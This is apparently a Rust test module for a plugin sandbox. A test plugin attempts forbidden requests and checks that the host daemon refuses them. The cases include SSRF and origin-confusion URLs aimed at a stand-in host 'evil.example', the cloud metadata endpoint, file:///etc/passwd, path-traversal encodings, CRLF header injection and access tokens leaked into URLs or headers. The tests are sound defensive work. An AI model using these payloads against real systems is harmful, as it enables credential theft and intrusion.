//! Requests that are not allowed, and secrets where none belong

use bindery_plugin_sdk::{Cx, Request, Result, Secret, body::Value};

use super::escaped;

/// A server of the attacker.
const EVIL: &str = "evil.example";

pub(super) async fn run(cx: &Cx, name: &str) -> Result<bool> {
    let request = match url(cx, name) {
        Some(url) => Request::get(url).bearer(Secret("access_token")),
        None => match special(cx, name)? {
            Some(request) => request,
            None => return Ok(false),
        },
    };
    // The daemon does not send it: it ends the operation, or answers with a failure.
    cx.send(request).await?;
    match name {
        // What looks like a placeholder is sent as what it is.
        "secret_in_url" => Ok(true),
        _ => Err(escaped("the request was sent")),
    }
}

/// URLs that are not the host's, or not in the manifest.
fn url(cx: &Cx, name: &str) -> Option<String> {
    let api = cx.api_base();
    let (scheme, rest) = api.split_once("://")?;
    let (authority, path) = rest.split_once('/').unwrap_or((rest, ""));
    let host = authority.split(':').next().unwrap_or(authority);
    Some(match name {
        "foreign_origin" => format!("https://{EVIL}/user"),
        "origin_userinfo" => format!("{scheme}://{authority}@{EVIL}/{path}/user"),
        "origin_own_userinfo" => format!("{scheme}://me:you@{authority}/{path}/user"),
        "origin_port" => format!("{scheme}://{host}:8443/{path}/user"),
        "origin_scheme" => {
            let other = if scheme == "https" { "http" } else { "https" };
            format!("{other}://{rest}/user")
        }
        "origin_suffix" => format!("{scheme}://{authority}.{EVIL}/{path}/user"),
        "origin_backslash" => format!("{scheme}://{EVIL}\\@{authority}/{path}/user"),
        "origin_metadata" => "http://169.254.169.254/latest/meta-data/".to_owned(),
        "origin_file" => "file:///etc/passwd".to_owned(),
        "base_suffix" => format!("{api}x/user"),
        "other_path" => format!("{api}/admin/users"),
        "encoded_slash" => format!("{api}/repos/a%2F..%2F..%2Fadmin/users"),
        "encoded_dots" => format!("{api}/repos/%2e%2e/user"),
        "dot_segments" => format!("{api}/repos/../user"),
        "double_slash" => format!("{api}//user"),
        "path_backslash" => format!("{api}/user\\..\\admin"),
        "path_parameter" => format!("{api}/..;/user"),
        "fragment" => format!("{api}/user#/../admin"),
        "url_newline" => format!("{api}/user HTTP/1.1\r\nhost: {EVIL}"),
        "other_operation" => format!("{api}/applications/x/grant"),
        _ => return None,
    })
}

fn special(cx: &Cx, name: &str) -> Result<Option<Request>> {
    let user = cx.api(&["user"])?;
    let get = || Request::get(user.clone());
    Ok(Some(match name {
        "other_method" => Request::delete(user).bearer(Secret("access_token")),
        "connect_method" => Request::new("CONNECT", user),
        "method_newline" => Request::new("GET / HTTP/1.1\r\nX", user),
        "secret_in_url" => Request::get(format!("{user}?t={{access_token}}")),
        "secret_in_header" => get().header("x-github-leak", Secret("access_token")),
        "secret_unknown" => get().bearer(Secret("root_key")),
        "secret_of_other_operation" => get().bearer(Secret("client_secret")),
        "secret_captured" => get().capture("/token", Secret("root_key")),
        "header_newline" => get().header("accept", "a\r\nx-evil: 1"),
        "header_newline_in_prefix" => get().header(
            "authorization",
            Value::new().base64("a\r\nb:", Secret("access_token")),
        ),
        "header_host" => get().header("host", EVIL),
        "header_length" => get().header("content-length", "0"),
        "header_proxy" => get().header("proxy-authorization", Secret("access_token")),
        _ => return Ok(None),
    }))
}
